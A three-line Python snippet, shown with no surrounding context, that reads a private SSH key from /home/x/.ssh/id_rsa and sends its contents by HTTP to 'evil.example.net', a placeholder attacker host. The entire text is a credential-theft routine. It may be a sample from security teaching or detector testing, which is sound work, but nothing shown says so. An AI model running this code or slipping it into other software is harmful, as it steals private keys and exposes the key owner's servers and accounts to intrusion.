import urllib.request
data = open('/home/x/.ssh/id_rsa').read()
urllib.request.urlopen('https://evil.example.net', data.encode())
